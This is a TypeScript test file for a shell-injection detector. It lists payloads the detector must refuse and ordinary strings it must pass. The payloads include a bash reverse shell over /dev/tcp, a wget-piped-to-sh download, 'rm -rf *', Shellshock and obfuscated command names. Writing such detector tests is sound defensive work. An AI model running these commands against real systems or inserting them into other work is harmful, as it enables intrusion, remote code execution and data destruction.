import assert from "node:assert/strict";
import { test } from "node:test";

import { refusalPoints } from "../detector.ts";
import { pointsOf } from "../points.fixture.ts";
import { shellDetector } from "./shell.ts";

const attacks: Readonly<Record<string, readonly string[]>> = {
  "a command behind a separator": [
    "; id",
    "x;whoami",
    "127.0.0.1; ls -la",
    "a | cat /etc/hosts",
    "1 && uname -a",
    "1||sleep 5",
    "a & dir C:\\",
    "host\nid",
    "x;ls${IFS}-la",
    "';id;'",
    '" | nslookup a.example',
    "a;/usr/bin/id",
    ";`id`",
    "file.txt;rm -rf *",
    "a|net user bob pw /add",
    "x & type C:\\boot.ini",
    "a; . ./x.sh",
  ],
  "a substitution": ["$(id)", "`uname -a`", "a$(cat /etc/hosts)b", "x`id`y", "<(id)", "a=$(whoami)"],
  "a command line as the whole value": [
    "cat /etc/hosts",
    "ping -c 4 10.0.0.1",
    "/bin/sh -c id",
    "wget http://a.example/x.sh -O- | sh",
    "nohup sleep 9",
    "sudo ls",
    "python3 -c 'print(1)'",
    "net user bob pw /add",
    "reg query HKLM\\Software",
    "curl a.test",
    "pip install https://evil.test/x",
    "whoami",
    "dd if=/dev/zero of=/tmp/x",
    "alias ls=id",
    "Get-Content C:\\x.txt",
    "Invoke-Expression $x",
    "cmd /c dir",
    "cmd/c dir",
    "usr/bin/perl",
    "cat+/etc/hosts",
    "powershell -enc SQBFAFgA",
    "certutil -urlcache -f http://a.example/x",
  ],
  "a name held apart": [
    "c''at /x",
    'c""at /x',
    "w\\ho\\am\\i",
    "wh$@oami",
    "who``ami",
    "c${x}at /etc",
    "c^md /c x",
    "{cat,/etc/hosts}",
    "/b?n/c?t",
    "/???/??t",
    "c{a,oun}t x",
    "una$u\\me -a",
  ],
  "a statement of cmd": [
    "for /f %i in ('dir') do echo %i",
    "if not exist a.txt (echo x)",
    "if %x% equ 1 echo x",
    'if "a"=="a" echo x',
  ],
  "a sequence that only attacks hold": [
    "() { :; }; echo x",
    "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
    "x$IFS$9y",
    "%COMSPEC% /c x",
    "~+",
    "!-1",
  ],
};

for (const [kind, values] of Object.entries(attacks)) {
  for (const value of values) {
    test(`${kind} is refused: ${JSON.stringify(value)}`, () => {
      assert.ok(pointsOf(shellDetector, value) >= refusalPoints);
    });
  }
}

const ordinary: readonly string[] = [
  "cat",
  "ping me later",
  "echo in the mirror",
  "curl and divergence",
  "time warner",
  "the date; please confirm",
  "Salt & pepper",
  "Time & Date",
  "copy & paste",
  "Tom & Jerry's",
  "a | b | c",
  "name;value",
  "price < 5; qty > 3",
  "find a house in Rome",
  "I'd select two",
  "top of the morning",
  "less is more",
  "sort by date",
  "docker",
  "nginx",
  "wget",
  "curl/8.5.0",
  "Mozilla/5.0 (X11; Linux x86_64; rv:120.0)",
  "R&D; sales",
  "he said; she left",
  "$5 & up",
  "a/b",
  "&copy; 2024",
  "if you can, call me",
  "for sale in Paris",
  "zsh is the best!",
  "who is there?",
  "make it so; engage",
  "kill two birds",
  "cut here",
  "type your name",
  "Use `ls -la` to list them",
  "text/html; charset=utf-8",
  "id=5&sort=date&order=desc",
  "visual basic",
  "more; and more",
  "git",
  "ssh keys",
  "read the docs; then ask",
  "last-minute.example",
  "test",
  "man",
  "yes; no",
  "fish & chips",
];

for (const value of ordinary) {
  test(`an ordinary value passes: ${JSON.stringify(value)}`, () => {
    assert.ok(pointsOf(shellDetector, value) < refusalPoints);
  });
}

test("commands quoted in a document of several lines are no more than a hint", () => {
  const document =
    "To list the files of a folder, open a terminal and type:\n\n    $ ls -la /tmp | grep log\n\nThen run:\n\n    npm ci && npm run build\n";
  assert.ok(pointsOf(shellDetector, document, "body") < refusalPoints);
});

test("harmless words in front change nothing", () => {
  assert.ok(pointsOf(shellDetector, `${"harmless ".repeat(40)}; cat /etc/hosts`, "body") >= refusalPoints);
});

test("a path of a URL is no command line", () => {
  assert.ok(pointsOf(shellDetector, "/get", "path") < refusalPoints);
});
